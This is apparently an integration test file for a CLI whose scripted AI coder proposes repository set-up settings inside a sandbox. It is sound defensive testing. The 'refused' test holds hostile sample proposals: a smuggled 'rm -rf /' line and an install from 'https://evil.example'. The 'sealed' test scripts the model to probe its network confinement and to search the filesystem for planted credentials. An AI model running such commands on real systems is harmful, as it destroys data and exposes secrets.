/**
 * A set-up run from the offer to a registered repository, by the real coder CLI in the sandbox with a scripted model: only green settings are saved, hostile
 * ones are refused, and nothing of the run stays.
 */
import { existsSync, readdirSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import { atTerminal } from "./support/at-terminal.ts";
import { isNight } from "./support/is-night.ts";
import { Laboratory, plantedSecrets } from "./support/laboratory.ts";

vi.setConfig({ testTimeout: 280_000, hookTimeout: 120_000 });

const packument = JSON.stringify({
  name: "left-pad",
  "dist-tags": { latest: "1.3.0" },
  versions: { "1.3.0": { name: "left-pad", version: "1.3.0" } },
});

let laboratory: Laboratory;
let registry: Server;
let registryAddress = "";
beforeAll(async () => {
  registry = createServer((_request, response) => response.end(packument));
  await new Promise<void>((resolve) => registry.listen(0, "127.0.0.1", resolve));
  const address = registry.address();
  if (address === null || typeof address === "string") throw new Error("the registry has no port");
  registryAddress = `http://127.0.0.1:${address.port}`;
  laboratory = await Laboratory.open({
    configuration: `prepare:\n  registries:\n    - { origin: "${registryAddress}", private: true }\n`,
  });
  await laboratory.must("daemon", "start");
});
afterAll(async () => {
  registry.close();
  await laboratory[Symbol.asyncDispose]();
});

interface Added {
  readonly trial: string;
  readonly settings: { verify: string[]; image: string | null };
  readonly set_up_run: { run_id: string; status: string; tokens_used: number; dockerfile: string | null };
  readonly tried: { outcome: string; commands: { tests: { passed: number } | null }[] };
}
interface Failed {
  readonly error: { code: string; reason: string };
}
interface RecordedEvent {
  readonly type: string;
  readonly data: { run_id?: string; usage?: { requests: number } | null; result?: { outcome: string; code?: string } };
}

const bash = (command: string) => ({ tool: "Bash" as const, input: { command } });
const leaves = (content: string) => ({
  tool: "Write" as const,
  input: { file_path: "/workspace/aedev-set-up.json", content },
});
/** Its own script leads nowhere; its tests need a program that the image lacks. */
const odd = {
  "package.json": '{"name":"odd","version":"1.0.0","scripts":{"test":"node tools/run-everything.js"}}\n',
  "tools/run-everything.js": 'throw new Error("needs the machine of its author");\n',
  "checks/sum.js":
    'const { test } = require("node:test");\nconst assert = require("node:assert");\nconst { execFileSync } = require("node:child_process");\n' +
    'test("adds", () => assert.strictEqual(execFileSync("bc", { input: "1+2\\n" }).toString(), "3\\n"));\n',
};
const proposal = {
  prepare: null,
  build: null,
  outputs: [],
  verify: ["node --test checks/sum.js"],
  tests: ["checks/**"],
  writable: [],
  packages: ["bc"],
};
const saying = (file: object | string) => {
  const content = typeof file === "string" ? file : JSON.stringify(file);
  laboratory.models.coder = { "Set up a repository": [{ calls: [leaves(content)] }, { text: "Done." }] };
};
const isKnown = async (name: string) => (await laboratory.run("repo", "show", name)).exitCode === 0;

/** The results of the coder's tools, in order. */
function resultsIn(body: string): string[] {
  const { messages } = JSON.parse(body) as { messages: { content: string | { type: string; content?: unknown }[] }[] };
  const parts = messages.flatMap(({ content }) => (typeof content === "string" ? [] : content));
  return parts.flatMap(({ type, content }) => (type === "tool_result" ? [String(content)] : []));
}

async function runsInLog(): Promise<RecordedEvent[]> {
  const { stdout } = await laboratory.must("events", "export");
  const events = stdout.split("\n").flatMap((line) => (line === "" ? [] : [JSON.parse(line) as RecordedEvent]));
  return events.filter(({ type }) => type.startsWith("SetUpRun"));
}

async function leavesNothing(): Promise<void> {
  expect(await laboratory.containers()).toEqual([]);
  const worktrees = join(laboratory.home, "worktrees");
  expect(existsSync(worktrees) ? readdirSync(worktrees) : []).toEqual([]);
  const mirrors = join(laboratory.home, "mirrors");
  const records = readdirSync(mirrors).map((name) => join(mirrors, name, "worktrees"));
  expect(records.flatMap((folder) => (existsSync(folder) ? readdirSync(folder) : []))).toEqual([]);
}

it("a set-up run finds settings that rules don't, shown as a difference with the image's recipe, and saved after a green trial", async () => {
  const bare = await laboratory.remote("odd", odd);
  saying(proposal);
  const unasked = await laboratory.run("repo", "add", bare, "--name", "plain", "--yes");
  expect(unasked.stderr).toContain(`aedev repo add ${bare} --name plain --set-up-run`);
  expect(await runsInLog()).toEqual([]);

  const shown = await laboratory.run("repo", "add", bare, "--name", "odd", "--set-up-run");
  expect(shown.exitCode).toBe(4);
  expect(shown.stdout).toMatch(/- verify {4}npm test\n {2}\+ verify {4}node --test checks\/sum\.js/);
  expect(shown.stdout).toMatch(/\+ image {5}node-checks:with_bc\nthe image is made from:\n {2}FROM aedev-runner/);
  expect(shown.stdout).toMatch(/apt-get install -y --no-install-recommends bc/);
  expect(await isKnown("odd")).toBe(false);
  const [, command = ""] = /^next: aedev (.*)$/m.exec(shown.stdout) ?? [];
  expect(command).toContain("--image node-checks:with_bc");

  const added = (
    await laboratory.must("repo", "add", bare, "--name", "odd", "--set-up-run", "--yes", "--json")
  ).json<Added>();
  expect(added).toMatchObject({
    trial: "green",
    settings: { verify: proposal.verify, image: "node-checks:with_bc" },
    set_up_run: { status: "proposed" },
    tried: { outcome: "green", commands: [{ tests: { passed: 1 } }] },
  });
  expect(added.set_up_run.tokens_used).toBeGreaterThan(0);
  const pasted = await execa(
    "sh",
    ["-c", `exec "$0" ${command.replace("--name odd", "--name pasted")}`, join(import.meta.dirname, "../bin/aedev")],
    {
      env: laboratory.environment,
      extendEnv: false,
      reject: false,
    },
  );
  expect([pasted.exitCode, pasted.stdout]).toEqual([0, expect.stringMatching(/base: +passing on the base/)]);

  const events = await runsInLog();
  expect(events.map(({ type }) => type)).toEqual([
    "SetUpRunRequested",
    "SetUpRunEnded",
    "SetUpRunRequested",
    "SetUpRunEnded",
  ]);
  expect(events[1]?.data.usage?.requests).toBeGreaterThan(1);
  await leavesNothing();
  expect((await laboratory.must("events", "verify")).stdout).toContain("the log is whole");
});

it.runIf(isNight)("a terminal offers a set-up run, where Enter keeps the settings found by rules", async () => {
  const bare = await laboratory.remote("asked", { ...odd, "README.md": "asked\n" });
  saying(proposal);
  const before = laboratory.models.requests.length;
  const aedev = join(import.meta.dirname, "../bin/aedev");
  const entered = await atTerminal(`${aedev} repo add ${bare} --name entered`, laboratory.environment);
  expect(entered.questions).toContain("Start a set-up run? [y/N]");
  expect(entered.text).toMatch(/may\s+use\s+400000\s+tokens/);
  expect(laboratory.models.requests.length).toBe(before);
  const yes = (question: string) =>
    question.includes("set-up run?") || question.includes("fresh containers") ? "y" : "";
  const answered = await atTerminal(`${aedev} repo add ${bare} --name answered`, laboratory.environment, yes);
  expect(answered.questions.at(-1)).toBe("Make the image, and try this in fresh containers? [y/N]");
  expect(answered.exitCode).toBe(0);
  const trials = (await laboratory.must("repo", "list", "--json")).json<{
    repositories: { name: string; trial: string }[];
  }>();
  expect(trials.repositories).toContainEqual(expect.objectContaining({ name: "entered", trial: "red" }));
  expect(trials.repositories).toContainEqual(expect.objectContaining({ name: "answered", trial: "green" }));
});

it.runIf(isNight)("a set-up run saves nothing if its proposal is missing, hostile or not green", async () => {
  const bare = await laboratory.remote("refused", odd);
  const add = async (file: object | string) => {
    saying(file);
    const added = await laboratory.run("repo", "add", bare, "--name", "refused", "--set-up-run", "--yes", "--json");
    expect(added.exitCode).toBe(1);
    const { code, reason } = added.json<Failed>().error;
    return `${code}: ${reason}`;
  };
  expect(await add({ ...proposal, verify: ["node --test checks/none.js"] })).toMatch(/^set-up-run-not-green: .*exit 1/);
  expect(await add({ ...proposal, packages: ["no-such-package-of-debian"] })).toMatch(
    /^set-up-run-not-green: .*Debian has no package no-such-package-of-debian/s,
  );
  expect(await add({ ...proposal, verify: ["true\nrm -rf /"] })).toMatch(
    /^set-up-run-failed: .*verify\.0: not one line/,
  );
  expect(await add({ ...proposal, prepare: "npm ci --registry https://evil.example" })).toMatch(
    /^set-up-run-failed: .*https:\/\/evil\.example is not one of the configured registries/,
  );
  expect(await add({ ...proposal, writable: ["checks"] })).toMatch(
    /^set-up-run-failed: .*writable: checks has files of the repository/,
  );
  expect(await isKnown("refused")).toBe(false);
  await leavesNothing();
});

it("a set-up run reaches only the registries and the gateway, and has its own checkout", async () => {
  const bare = await laboratory.remote("sealed", odd);
  const version = (address: string) => `npm view left-pad version --registry ${address} 2>&1 | head -5`;
  const direct = `node -e 'require("node:net").connect(443, "1.1.1.1").on("error", (e) => console.log("direct", e.code)).on("connect", () => console.log("direct open"))'`;
  laboratory.models.coder = {
    "Set up a repository": [
      { calls: [bash(`${version(registryAddress)}; ${version("http://outside.example")}`)] },
      { calls: [bash(`${direct}; ls /run/aedev; env | grep -c '^HTTP_PROXY='`)] },
      { calls: [bash("echo changed > checks/sum.js && head -1 checks/sum.js; touch /etc/x; apt-get install bc")] },
      // Written so that the command itself does not match.
      {
        calls: [
          bash(
            "printf 'laboratory-%s' credential > /tmp/planted; grep -rsl 'laboratory-[c]redential' / --exclude-dir=proc --exclude-dir=sys; env | grep -c '[c]redential'",
          ),
        ],
      },
      { calls: [leaves(JSON.stringify(proposal))] },
      { text: "Done." },
    ],
  };
  const from = laboratory.models.requests.length;
  await laboratory.must("repo", "add", bare, "--name", "sealed", "--set-up-run", "--yes");
  const bodies = laboratory.models.requests.slice(from).map(({ body }) => body);
  const results = resultsIn(bodies.at(-1) ?? "");
  expect(results[0]).toMatch(/^1\.3\.0$/m);
  expect(results[0]).toMatch(/403 .*outside\.example/);
  expect(results[1]).toMatch(/^direct ENETUNREACH\nfetch\.sock\ngateway\.sock\n1\n/);
  expect(results[2]).toMatch(/changed\n.*Read-only file system\n/);
  expect(results[3]).toMatch(/^(Exit code 1\n)?\/tmp\/planted\n0\n/);
  expect(bodies.join("")).not.toContain(plantedSecrets.coder);
  await leavesNothing();
});

it.runIf(isNight)("a set-up run is stopped when nobody waits for it, and its usage is recorded", async () => {
  const bare = await laboratory.remote("left", odd);
  const until = new Promise<void>(() => undefined);
  laboratory.models.coder = { "Set up a repository": [{ calls: [bash("true")] }, { text: "late", until }] };
  const before = laboratory.models.requests.length;
  const adding = execa(join(import.meta.dirname, "../bin/aedev"), ["repo", "add", bare, "--set-up-run", "--yes"], {
    env: laboratory.environment,
    extendEnv: false,
    stdin: "ignore",
    reject: false,
  });
  await laboratory.until(async () => laboratory.models.requests.length >= before + 2);
  const refused = await laboratory.run("repo", "add", bare, "--name", "second", "--set-up-run", "--yes");
  expect(refused.stderr).toContain("a set-up run of left is under way");
  adding.kill("SIGKILL");
  await adding;
  const ended = await laboratory.until(async () => {
    const last = (await runsInLog()).at(-1);
    return last?.type === "SetUpRunEnded" && last;
  });
  expect(ended.data.result).toMatchObject({ outcome: "failed", code: "stopped" });
  expect(ended.data.usage?.requests).toBeGreaterThan(0);
  expect(await isKnown("left")).toBe(false);
  await laboratory.until(async () => (await laboratory.containers()).length === 0);
  await leavesNothing();
});

it.runIf(isNight)(
  "is interrupted by a killed daemon: ended in the log, nothing left, nothing saved; a registered repository gets to green by the next one",
  async () => {
    const bare = await laboratory.remote("killed", odd);
    await laboratory.must("repo", "add", bare);
    const trial = async () => (await laboratory.must("repo", "show", "killed", "--json")).json<Added>().trial;
    let release: () => void = () => undefined;
    const until = new Promise<void>((resolve) => {
      release = resolve;
    });
    laboratory.models.coder = { "Set up a repository": [{ text: "late", until }] };
    const before = laboratory.models.requests.length;
    const adding = laboratory.run("repo", "add", bare, "--set-up-run", "--yes");
    await laboratory.until(async () => laboratory.models.requests.length > before);
    process.kill(laboratory.daemonPid(), "SIGKILL");
    expect((await adding).exitCode).not.toBe(0);
    release();
    await laboratory.must("daemon", "start");
    await laboratory.until(async () => (await runsInLog()).at(-1)?.type === "SetUpRunEnded");
    expect((await runsInLog()).at(-1)?.data).toMatchObject({ usage: null, result: { outcome: "interrupted" } });
    expect(await trial()).toBe("red");
    await leavesNothing();
    saying(proposal);
    await laboratory.must("repo", "add", bare, "--set-up-run", "--yes");
    expect(await trial()).toBe("green");
    expect((await laboratory.must("events", "verify")).stdout).toContain("the log is whole");
    await laboratory.must("daemon", "stop");
    await laboratory.must("events", "rebuild");
    expect((await laboratory.must("events", "verify")).exitCode).toBe(0);
  },
);
